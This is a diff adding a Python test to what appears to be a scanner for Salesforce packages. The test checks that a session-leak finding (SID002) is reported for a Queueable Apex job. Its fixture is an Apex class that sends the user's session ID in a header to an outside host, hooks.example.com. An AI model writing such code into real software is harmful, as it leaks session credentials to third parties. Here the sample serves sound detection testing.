@@ -36,3 +36,20 @@ def test_one_finding_names_the_surest_place_first_and_the_others_after(tmp_path:
                             " (Client.push has no callers in the package outside tests)")
     assert dict(properties)["endpoint"] == "https://api.example.com/in"
     assert dict(properties)["confidence"] == "high"
+
+
+def test_a_method_the_platform_calls_is_not_said_to_have_no_callers(tmp_path: Path) -> None:
+    """`Queueable.execute` has no caller in the code, but it is no dead code: the platform runs it."""
+    job = """public with sharing class ExportJob implements Queueable, Database.AllowsCallouts {
+    public void execute(QueueableContext ctx) {
+        HttpRequest req = new HttpRequest();
+        req.setEndpoint('https://hooks.example.com/job');
+        req.setHeader('X-Session', UserInfo.getSessionId());
+        new Http().send(req);
+    }
+}
+"""
+    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/ExportJob.cls": job.encode()})
+    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
+    [export] = [f for f in result.findings if f.rule_id == "SID002"]
+    assert export.message.endswith("(hooks.example.com: not this org)"), export.message
